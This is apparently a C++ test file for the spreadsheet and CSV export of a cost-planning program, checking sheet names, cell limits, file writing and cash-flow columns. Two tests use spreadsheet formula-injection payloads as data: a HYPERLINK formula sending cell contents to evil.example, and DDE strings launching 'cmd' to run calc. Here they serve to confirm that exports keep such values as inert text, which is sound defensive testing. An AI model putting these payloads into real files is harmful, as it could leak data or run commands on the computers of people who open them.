// SPDX-FileCopyrightText: The Headroom authors
// SPDX-License-Identifier: GPL-3.0-or-later
// What a workbook makes of text from files, and how it is put in place.
#include "database/workbook/text.h"

#include <QRegularExpression>
#include <QTimeZone>

#include "database/cash_flow_csv.h"
#include "tests/database/catalog_fixture.h"
#include "tests/database/unprivileged.h"
#include "tests/database/workbook_fixture.h"
#include "tests/support/full_disk.h"

using namespace headroom;
using namespace headroom::tests;
using workbook::cellText;
using workbook::sheetName;

namespace {

/// One cheap option of a small scenario, to be renamed.
struct OneOption {
    OneOption() {
        scenario.finance.horizonMonths = 12;
        for (const OptionResult& each : evaluate(scenario, seedCatalog()).options) {
            if (each.cash && each.option.kind == OptionKind::Api) result = each;
        }
        REQUIRE(result.cash);
    }
    void write(const QString& target, int copies = 1) const {
        const std::vector<const OptionResult*> options(static_cast<std::size_t>(copies), &result);
        writeWorkbook(target, {scenario, seedCatalog(), options, created});
    }

    Scenario scenario = burstyChat8b();
    OptionResult result;
    QDateTime created{QDate(2026, 11, 26), QTime(12, 0), QTimeZone::utc()};
    QTemporaryDir folder;
    QString path = folder.filePath(u"costs.xlsx"_s);
};

/// A part of a workbook, which is a ZIP archive.
QByteArray part(const QString& workbook, const QString& name) {
    QProcess unzip;
    unzip.start(u"unzip"_s, {u"-p"_s, workbook, name});
    INFO("These tests look into workbooks. Install unzip.");
    REQUIRE(unzip.waitForFinished());
    REQUIRE(unzip.exitCode() == 0);
    return unzip.readAllStandardOutput();
}

}  // namespace

TEST_CASE("Sheets have names that Excel accepts and that differ", "[workbook][text]") {
    // The rules are those of the page "Rename a worksheet" in the help of Excel.
    CHECK(sheetName(u"Mac Studio: M3/M4 [new]?*\\"_s, {}) == u"Mac Studio M3 M4 new"_s);
    CHECK(sheetName(u"'quoted'"_s, {}) == u"quoted"_s);
    CHECK(sheetName(u"it's"_s, {}) == u"it's"_s);
    CHECK(sheetName(u"history"_s, {}) == u"history (2)"_s);
    CHECK(sheetName(u""_s, {}) == u"Option"_s);
    CHECK(sheetName(u"\x01\x1f ''"_s, {}) == u"Option"_s);
    const QString name = sheetName(QString(200, u'x'), {});
    CHECK(name == QString(31, u'x'));
    const QString second = sheetName(QString(200, u'X'), {name});
    CHECK(second == QString(27, u'X') + u" (2)"_s);
    CHECK(sheetName(QString(200, u'x'), {name, second}) == QString(27, u'x') + u" (3)"_s);
    // Not cut through a pair of surrogates, nor left with an apostrophe at its end.
    CHECK(sheetName(QString(30, u'x') + u"\U0001F600"_s, {}) == QString(30, u'x'));
    CHECK(sheetName(QString(30, u'x') + u"'y"_s, {}) == QString(30, u'x'));
}

TEST_CASE("Cells hold what XML and Excel can hold", "[workbook][text]") {
    CHECK(cellText(u"a\x01\x08\x7f\tb\nc\ufffe"_s) == u"a\tb\nc"_s);
    CHECK(cellText(u"_x0041_ _x_ _x00zz_"_s) == u"_x005F_x0041_ _x_ _x00zz_"_s);
    CHECK(cellText(QString(1'000'000, u'a')).size() == 32'767);
    CHECK(cellText(QString(32'766, u'a') + u"\U0001F600"_s) == QString(32'766, u'a'));
    const QChar half(0xD83D);
    CHECK(cellText(u"a"_s + half + u"b"_s) == u"ab"_s);
}

TEST_CASE("Hostile names, titles and sources stay text", "[workbook][text]") {
    OneOption one;
    const std::string formula = "=HYPERLINK(\"http://evil.example/\"&A1,\"total\")";
    one.scenario.title = "=1+1";
    one.scenario.author = "@SUM(A1:A9)<b>&\x02";
    one.scenario.question = "+cmd|' /C calc'!A0";
    one.result.option.name = formula;
    one.result.price.source = "-2+3+cmd|' /C calc'!A0";
    one.result.price.date = std::string(1'000'000, '=');
    one.write(one.path);
    const std::vector<SheetCells> sheets = openedByGnumeric(one.path);
    REQUIRE(sheets.size() == 4);
    CHECK(sheets[kInputsSheet].text(0, 0) == u"=1+1"_s);
    CHECK(sheets[kSourcesSheet].text(2, 0).toStdString() == formula);
    CHECK(sheets[kSourcesSheet].text(2, 2) == QString(32'767, u'='));
    CHECK(sheets[kSourcesSheet].text(2, 4) == u"-2+3+cmd|' /C calc'!A0"_s);
    CHECK(sheets[kComparisonSheet].text(2, 0).toStdString() == formula);
    CHECK(sheets[kFirstOptionSheet].text(0, 0).toStdString() == formula);
    // No formula but ours, and no link, macro or outside reference.
    const QByteArray sources = part(one.path, u"xl/worksheets/sheet3.xml"_s);
    CHECK_FALSE(sources.contains("<f>"));
    CHECK_FALSE(sources.contains("hyperlink"));
    for (const char* sheet : {"1", "2", "4"}) {
        const QByteArray xml =
            part(one.path, u"xl/worksheets/sheet%1.xml"_s.arg(QString::fromLatin1(sheet)));
        CHECK_FALSE(xml.contains("HYPERLINK(&quot;"));
        CHECK_FALSE(xml.contains("cmd|"));
    }
}

TEST_CASE("Options of one name have sheets of their own", "[workbook][text]") {
    OneOption one;
    one.result.option.name = "Comparison";  // the name of another sheet
    one.write(one.path, 3);
    const QByteArray book = part(one.path, u"xl/workbook.xml"_s);
    for (const char* name :
         {"\"Comparison\"", "\"Comparison (2)\"", "\"Comparison (3)\"", "\"Comparison (4)\""}) {
        CAPTURE(name);
        CHECK(book.contains(name));
    }
    const SheetCells comparison = openedByGnumeric(one.path)[kComparisonSheet];
    for (int row = 2; row < 5; ++row) {
        CHECK(comparison.number(row, 3) == Approx(one.result.total.amount()).margin(0.05));
    }
}

TEST_CASE("An option without a price has a row and no sheet", "[workbook]") {
    OneOption one;
    OptionResult unknown = one.result;
    unknown.option.name = "Not for sale";
    unknown.cash.reset();
    unknown.facts.reset();
    const std::vector<const OptionResult*> options{&unknown, &one.result};
    writeWorkbook(one.path, {one.scenario, seedCatalog(), options, one.created});
    const std::vector<SheetCells> sheets = openedByGnumeric(one.path);
    REQUIRE(sheets.size() == 4);
    CHECK(sheets[kComparisonSheet].text(2, 3) == u"price unknown"_s);
    CHECK(sheets[kComparisonSheet].number(3, 3) == Approx(one.result.total.amount()).margin(0.05));
}

TEST_CASE("The same content and date give the same bytes, with title, author and date",
          "[workbook]") {
    OneOption one;
    one.scenario.title = "Assistant & friends";
    one.scenario.author = "Zoë";
    const QString again = one.folder.filePath(u"again.xlsx"_s);
    one.write(one.path);
    one.write(again);
    CHECK(bytesOf(one.path) == bytesOf(again));
    const QByteArray properties = part(one.path, u"docProps/core.xml"_s);
    CHECK(properties.contains("<dc:title>Assistant &amp; friends</dc:title>"));
    CHECK(properties.contains("<dc:creator>Zoë</dc:creator>"));
    CHECK(properties.contains("2026-11-26T12:00:00Z"));
}

TEST_CASE("A workbook that cannot be written leaves what was there", "[workbook]") {
    OneOption one;
    writeBytes(one.path, "before");
    SECTION("no such folder") {
        const QString path = one.folder.filePath(u"missing/costs.xlsx"_s);
        checkSays(refusal([&] { one.write(path); }), {u"costs.xlsx"_s, u"folder"_s});
    }
    SECTION("full disk") {
        const FullDisk disk(2'000);
        checkSays(refusal([&] { one.write(one.path); }), {u"costs.xlsx"_s, u"free space"_s});
    }
    CHECK(bytesOf(one.path) == "before");
    CHECK(QDir(one.folder.path()).entryList(QDir::Files) == QStringList{u"costs.xlsx"_s});
}

TEST_CASE("The CSV of cash flows has the program's amounts by month", "[workbook][csv]") {
    OneOption one;
    one.scenario.finance.start = "2027-01";
    const std::vector<const OptionResult*> options{&one.result, &one.result};
    const SheetCells csv(QString::fromUtf8(cashFlowCsv(options, one.scenario)).remove(u'\r'));
    const CashFlow& cash = *one.result.cash;
    const int lines = static_cast<int>(cash.lines.size());
    REQUIRE(csv.rows() == 1 + 13 + 1);
    CHECK(csv.text(1, 0) == u"0"_s);
    CHECK(csv.text(1, 1).isEmpty());
    CHECK(csv.text(2, 1) == u"2027-01"_s);
    CHECK(csv.text(13, 1) == u"2027-12"_s);
    for (int i = 0; i < lines; ++i) {
        const CashLine& line = cash.lines[static_cast<std::size_t>(i)];
        for (int month = 0; month <= 12; ++month) {
            CHECK(csv.number(1 + month, 2 + i) ==
                  Approx(line.months[static_cast<std::size_t>(month)].amount()));
        }
        CHECK(csv.number(14, 2 + i) == Approx(line.total().amount()));
        // The second option has the same columns, under names of their own.
        CHECK(csv.text(0, 2 + i) != csv.text(0, 3 + lines + i));
        CHECK(csv.number(14, 2 + i) == csv.number(14, 3 + lines + i));
    }
    CHECK(csv.number(14, 2 + lines) == Approx(one.result.total.amount()));
    CHECK(csv.text(0, 2 + lines).endsWith(u": Total, USD"_s));
}

TEST_CASE("No cell of the CSV becomes a formula", "[workbook][csv]") {
    OneOption one;
    one.result.option.name = "=cmd|' /C calc'!A0 %1, \"x\"\nnext";
    const std::vector<const OptionResult*> options{&one.result};
    const QString path = one.folder.filePath(u"costs.csv"_s);
    writeCashFlowCsv(path, options, one.scenario);
    const SheetCells csv(QString::fromUtf8(bytesOf(path)).remove(u'\r'));
    CHECK(csv.text(0, 1).startsWith(u"'=cmd|' /C calc'!A0 %1, \"x\"\nnext: "_s));
    CHECK(csv.rows() == 1 + 13 + 1);
}
